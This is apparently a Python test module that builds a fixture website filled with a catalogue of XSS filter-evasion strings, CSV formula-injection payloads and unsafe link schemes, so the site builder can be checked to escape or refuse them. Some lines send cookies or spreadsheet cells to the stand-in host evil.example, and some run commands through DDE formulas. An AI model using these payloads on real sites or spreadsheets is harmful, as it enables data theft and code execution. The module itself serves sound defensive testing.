"""A corpus of hostile strings and the fixture site that carries them in every field.

The strings follow the classes of the well-known XSS filter-evasion cheat sheets: plain and
case-mangled script tags, event handlers, attribute and element break-outs, URL schemes in
markup, entity and whitespace obfuscation, mutation XSS, SVG and MathML, CSS, meta refresh,
base hijacking, unclosed raw-text elements, template syntax, zero-width and look-alike tricks,
and spreadsheet formulas (CSV injection, after OWASP): those come first, so that every field
of the site starts with one. (Bidirectional overrides and control characters are refused
by `check`: see tests/invalid/ and tests/test_characters.py.) Each is placed, as text, in
every field of the site's records: the build must accept it and show it as text, and the
CSV files must not start a cell with a formula. Addresses that a browser would run or load
from elsewhere (UNSAFE_LINKS) are a different matter: the build must refuse them.

`python -m tests.hostile` rewrites tests/fixtures/hostile/ from this file.
"""

from __future__ import annotations

import shutil
import sys
from pathlib import Path

import yaml

ROOT = Path(__file__).resolve().parent.parent
HOSTILE_SITE = ROOT / "tests" / "fixtures" / "hostile"
EVIL = "evil.example"

# Formulas a spreadsheet would run from a CSV cell: one opens each group of payloads below.
FORMULAS: list[str] = [
    f'=HYPERLINK("https://{EVIL}/?leak="&A1,"Fonte")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    f'=IMPORTXML(CONCAT("https://{EVIL}/?",A1),"//a")',
    "+SUM(1,1)",
    "=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # what OWASP says a cell must not start with

PAYLOADS: list[str] = [
    *FORMULAS,
    "<script>alert(1)</script>",
    "<script>window.__xss=1</script>",
    f"<script src=//{EVIL}/x.js></script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"window.__xss=1\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=\"jav&#9;ascript:alert('XSS');\">",  # (a raw tab: refused in one-line fields)
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img srcset=\",,,,,x\" onerror=alert(1)>",
    f"<img src=x onerror=\"fetch('//{EVIL}/'+document.cookie)\">",
    "<svg onload=alert(1)>",
    "<svg/onload=window.__xss=1>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
    "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">click</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
    "<a href=# onclick=\"alert(1)\">click</a>",
    f"<a href=\"https://{EVIL}/\" target=_blank>log in again</a>",
    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<x onclick=alert(1)>click</x>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<div style=\"background-image: url(javascript:alert(1))\">x</div>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    f"<style>@import 'https://{EVIL}/x.css';</style>",
    f"<link rel=stylesheet href=//{EVIL}/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    f"<base href=\"//{EVIL}/\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "<textarea>",
    "<title>",
    "<!--",
    "<!--<script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<?xml version=\"1.0\"?><x>",
    "<!DOCTYPE html>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "\"'><img src=x onerror=alert(1)>`",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{ 7*7 }}",
    "{% for x in range(9) %}{{ x }}{% endfor %}",
    "${alert(1)}",
    "#{alert(1)}",
    "{0} {1} %s %(x)s",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
]

# Link and picture addresses the build must refuse, each written in the Markdown forms below.
UNSAFE_LINKS: list[str] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "java&#x09;script:alert(1)",
    "ja&Tab;vascript:alert(1)",
    "jav&NewLine;ascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)",
    "javascript&amp;colon;alert(1)",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    "file:///etc/passwd",
    "livescript:alert(1)",
    "mocha:alert(1)",
    "ms-its:mhtml:file://C:/x.mht!x",
]
LINK_FORMS: dict[str, str] = {
    "inline": "Testo con [un collegamento]({url}).\n",
    "inline-angle": "Testo con [un collegamento](<{url}>).\n",
    "inline-title": "Testo con [un collegamento]({url} \"titolo\").\n",
    "reference": "Testo con [un collegamento][rif].\n\n[rif]: {url}\n",
    "reference-angle": "Testo con [un collegamento][rif].\n\n[rif]: <{url}> \"titolo\"\n",
    "autolink": "Testo con <{url}>.\n",
    "image": "Testo con ![una figura]({url}).\n",
    "image-reference": "Testo con ![una figura][fig].\n\n[fig]: {url}\n",
}
# Pictures load from where they point: any other host is refused, not only odd schemes.
UNSAFE_PICTURES: list[str] = [
    f"https://{EVIL}/pixel.png", f"http://{EVIL}/pixel.png", f"//{EVIL}/pixel.png",
    f"HTTPS://{EVIL}/pixel.png", f" //{EVIL}/pixel.png",
]
# Addresses in YAML fields (sources[].url, acts[].url, licence.url) that must be refused.
UNSAFE_YAML_URLS: list[str] = [
    "javascript:alert(1)", "JAVASCRIPT:alert(1)", "data:text/html,x", "vbscript:x",
    " https://example.org/", "https://example.org/\n", "https://example.org/ x",
    "https://example.org/\"onmouseover=\"alert(1)", "https://", "https:///x",
    "https://example.org/<script>", "http://exa mple.org/", "https://\u0000example.org/",
    "https://example.org/\u0085", "//example.org/x", "example.org/x",
]

CHUNKS = 8
OWNER = "comune-ostile"


def chunks() -> list[list[str]]:
    """The payloads in CHUNKS groups: each group goes into one record of each kind."""
    return [PAYLOADS[i::CHUNKS] for i in range(CHUNKS)]


def joined(group: list[str]) -> str:
    return " | ".join(group)


def body(group: list[str], start: int) -> str:
    """A Markdown body that carries each payload in every construct an editor may write."""
    out = ["Sintesi: " + joined(group), ""]
    for n, p in enumerate(group, start):
        out += [f"## Art. {n} — {p}", "", p, "", f"1. {p}", f"2. *{p}* e **{p}**", "",
                f"    1. {p}", f"    2. [{p}](https://example.org/testo)", "", f"> {p}", "",
                f"[collegamento](https://example.org/ \"{p}\")", "", "```", p, "```", ""]
        if "`" not in p:
            out += [f"Codice: `{p}`", ""]
    return "\n".join(out)


def front(data: dict, text: str) -> str:
    return "---\n" + yaml.safe_dump(data, allow_unicode=True, sort_keys=False) + "---\n" + text


def dump(data) -> str:
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False)


def write_site(root: Path) -> Path:
    """Write the hostile content tree into `root` (which must not exist)."""
    groups = chunks()
    (root / "partners").mkdir(parents=True)
    (root / "agreements").mkdir()
    (root / "pages").mkdir()
    (root / "documents").mkdir()
    (root / "documents" / "testo.pdf").write_bytes(b"%PDF-1.4\n% hostile fixture\n%%EOF\n")

    def text(i: int) -> dict[str, str]:
        return {"it": joined(groups[i % CHUNKS]), "en": joined(groups[(i + 1) % CHUNKS])}

    (root / "site.yaml").write_text(dump({
        "title": text(0), "tagline": text(1),
        "owner": {"id": OWNER, "name": text(2)},
        "languages": ["it", "en"], "base_url": "https://example.org/accordi/",
        "licence": {"id": "CC-BY-4.0", "name": text(3),
                    "url": "https://creativecommons.org/licenses/by/4.0/"},
        "contact": {"email": "accordi@example.org", "name": text(4)},
    }), encoding="utf-8")
    (root / "themes.yaml").write_text(dump([
        {"id": f"tema-{i}", "name": text(i), "description": text(i + 3)}
        for i in range(CHUNKS)]), encoding="utf-8")
    for i in range(CHUNKS):
        (root / "partners" / f"partner-{i}.yaml").write_text(dump({
            "id": f"partner-{i}", "kind": "city", "name": text(i), "country": "IT",
            "location": {"lat": 45.0 + i / 10, "lon": 9.0 + i / 10},
            "description": {lang: "\t" + value for lang, value in text(i + 5).items()},
        }), encoding="utf-8")
        g = joined(groups[i])
        facts = {
            "id": f"accordo-{i}", "title": g, "type": "accordo-collaborazione", "object": g,
            "partners": [f"partner-{i}"], "themes": [f"tema-{i}"],
            "counterparts": [{"name": text(i + 2), "partner": f"partner-{i}"}],
            "signatories": [{"name": g, "role": text(i), "party": f"partner-{i}"},
                            {"name": g, "role": text(i + 1), "party": OWNER}],
            "signed": f"2020-01-{i + 1:02d}", "duration": "P2Y",
            "renewals": [{"date": f"2022-01-{i + 1:02d}", "duration": "P10Y", "note": text(i)}],
            "expense": {"amount": 1000 + i, "currency": "EUR", "note": text(i + 4)},
            "documents": [{"file": "documents/testo.pdf", "title": text(i + 6)}],
            "acts": [{"title": text(i + 7), "date": "2019-12-01",
                      "url": "https://example.org/atti/delibera"}],
            "sources": [{"title": text(i + 1), "url": "https://example.org/fonti/accordo"}],
        }
        if i % 2:
            facts["status"] = {"value": "active", "source": text(i + 2)}
        (root / "agreements" / f"accordo-{i}.it.md").write_text(
            front(facts, body(groups[i], 1)), encoding="utf-8")
        other = joined(groups[(i + 1) % CHUNKS])
        (root / "agreements" / f"accordo-{i}.en.md").write_text(
            front({"title": other, "object": other, "translator_note": other},
                  body(groups[(i + 1) % CHUNKS], 1)), encoding="utf-8")
    for i, name in enumerate(["about", "pagina-1", "pagina-2", "pagina-3"]):
        for lang, shift in (("it", 0), ("en", 1)):
            g = groups[(2 * i + shift) % CHUNKS]
            (root / "pages" / f"{name}.{lang}.md").write_text(
                front({"title": joined(g), "description": joined(g)}, body(g, 1)),
                encoding="utf-8")
    return root


def main() -> int:
    if HOSTILE_SITE.exists():
        shutil.rmtree(HOSTILE_SITE)
    write_site(HOSTILE_SITE)
    print(f"wrote {HOSTILE_SITE.relative_to(ROOT)}/ with {len(PAYLOADS)} hostile strings")
    return 0


if __name__ == "__main__":
    sys.exit(main())
